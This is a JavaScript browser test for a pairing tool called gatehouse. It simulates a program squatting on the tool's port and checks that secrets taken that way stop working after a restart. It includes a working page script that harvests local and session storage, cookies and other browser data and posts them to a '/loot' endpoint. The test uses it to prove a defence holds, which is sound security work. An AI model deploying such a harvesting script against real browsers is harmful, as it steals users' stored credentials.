// The squatter, in a real browser: while gatehouse serve is stopped,
// another program listens on its kept port and serves a page that reads
// everything the origin stores (local and session storage, cookies,
// IndexedDB, caches) and what the browser sends it. The phone opens its
// saved page and so runs the squatter's. After serve starts again, what
// the squatter took opens nothing: its stored secret is refused (it was
// good for the run that gave it), and the reconnect it asks for shows a
// code no phone in the person's hand shows, so it is denied. The squatter
// did take the real secret (it equals the one serve kept), so the test is
// not vacuous. The real phone then reconnects by its own code.
//
// Run by web/page_test.go (TestSquatterInChromium).
import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { chromium } from 'playwright-core';
import { session, check, within } from './lib.mjs';
import { Host, Refusal, reconnect } from '../src/api.js';
import { b64decode } from '../src/seal.js';

const { GATEHOUSE, REPO, STATE, ARTIFACTS, CHROMIUM } = process.env;
const s = session({ gatehouse: GATEHOUSE, repo: REPO, state: STATE, artifacts: ARTIFACTS });
const { step } = s;

// The squatter's page: everything its origin holds, posted home.
const grab = `<!doctype html><title>gatehouse</title><script>
(async () => {
  const loot = { local: {}, session: {}, cookie: document.cookie, idb: {}, caches: [] };
  for (let i = 0; i < localStorage.length; i++) loot.local[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));
  for (let i = 0; i < sessionStorage.length; i++) loot.session[sessionStorage.key(i)] = sessionStorage.getItem(sessionStorage.key(i));
  try {
    for (const db of await indexedDB.databases()) loot.idb[db.name] = db.version;
  } catch (e) { loot.idb.error = String(e); }
  try { loot.caches = await caches.keys(); } catch (e) { loot.caches = String(e); }
  await fetch('/loot', { method: 'POST', body: JSON.stringify(loot) });
  document.title = 'taken';
})();
</script>`;

function squat(port) {
  const seen = { loot: null, headers: [] };
  const server = createServer((req, res) => {
    seen.headers.push(req.headers);
    if (req.method === 'POST' && req.url === '/loot') {
      let body = '';
      req.on('data', (d) => { body += d; });
      req.on('end', () => { seen.loot = JSON.parse(body); res.end('ok'); });
      return;
    }
    res.setHeader('Content-Type', 'text/html');
    res.end(grab);
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    // close ends the connections the browser keeps open too: server.close
    // alone waits for each of them, which a browser may hold for minutes.
    const close = () => new Promise((r) => { server.close(r); server.closeAllConnections(); });
    server.listen(port, '127.0.0.1', () => resolve({ seen, close }));
  });
}

let browser;
let failure;
try {
  await s.started();
  browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox'] });
  const page = await s.pair(browser, 'full');
  await page.getByRole('heading', { name: 'Projects' }).waitFor();
  const phone = page.context();
  const origin = new URL(page.url()).origin;
  const kept = JSON.parse(readFileSync(join(STATE, 'lan.json'), 'utf8')).devices[0];
  await page.close();
  step('paired, the tab closed');

  // serve stops; the squatter takes its port; the phone opens its page.
  s.stopServe();
  await s.stopped();
  const squatter = await squat(Number(new URL(origin).port));
  step('serve stopped, the squatter listens on its port');
  const tab = await within(30000, 'a new tab', phone.newPage());
  await tab.goto(origin + '/');
  await tab.waitForFunction(() => document.title === 'taken');
  await within(30000, 'the squatter closing', squatter.close());
  const { loot } = squatter.seen;
  const stolen = JSON.parse(loot.local[`gatehouse:${new URL(origin).host}`]);
  check(Buffer.from(stolen.stored, 'base64').equals(Buffer.from(kept.stored, 'base64')) && stolen.deviceId === kept.id,
    `the squatter did not take the secret serve kept: ${JSON.stringify(loot)}`);
  check(Object.keys(loot.local).every((k) => k.startsWith('gatehouse')), `the page stores more than its pairing: ${Object.keys(loot.local)}`);
  check(!loot.cookie && Object.keys(loot.session).length === 0, `the page stored cookies or session data: ${JSON.stringify(loot)}`);
  await tab.close();
  step('the squatter read everything the origin stores, the stored secret included');

  // serve starts again; the thief tries what it took, as the page would.
  await s.restart();
  const realFetch = globalThis.fetch;
  globalThis.fetch = (path, init) => realFetch(origin + path, init);
  const dev = { deviceId: stolen.deviceId, stored: b64decode(stolen.stored) };
  let refused = '';
  try {
    await new Host(dev).open();
  } catch (e) {
    refused = e instanceof Refusal ? e.code : String(e);
  }
  check(refused === 'RESTARTED', `the stolen stored secret after the restart: ${refused || 'a session'}`);
  let shownToThief = '';
  const asking = reconnect(dev, 'Safari on iPhone', (code) => { shownToThief = code; });
  for (let i = 0; !shownToThief; i++) {
    if (i > 400) throw new Error('the thief was shown no code');
    await new Promise((r) => setTimeout(r, 50));
  }
  // The person at the computer sees a reconnect whose code no phone in
  // their hand shows, and denies it.
  s.gh('devices', 'deny', shownToThief.replace(' ', ''), '--wait', '20s');
  const outcome = await asking.then(() => 'paired', (e) => (e instanceof Refusal ? e.code : String(e)));
  check(outcome === 'REFUSED', `the thief's reconnect: ${outcome}`);
  globalThis.fetch = realFetch;
  step('what the squatter took opened nothing');

  // The real phone opens its page: asked by its own code, allowed, and back.
  const back = await within(30000, 'a new tab', phone.newPage());
  await back.goto(origin + '/');
  await back.getByText('so the computer must allow this device again').waitFor({ timeout: 15000 });
  const code = (await back.locator('#pair-code').textContent()).replace(' ', '');
  check(code !== shownToThief.replace(' ', ''), 'the phone and the thief were shown the same code');
  s.gh('devices', 'allow', code, '--wait', '20s');
  await back.getByRole('heading', { name: 'Projects' }).waitFor({ timeout: 15000 });
  await back.getByText('This device has full access here.').waitFor();
  step('the phone reconnected by its own code');
  console.log('ok: the squatter took the stored secret and it opened nothing');
} catch (e) {
  failure = e;
} finally {
  await s.end(browser, failure);
}
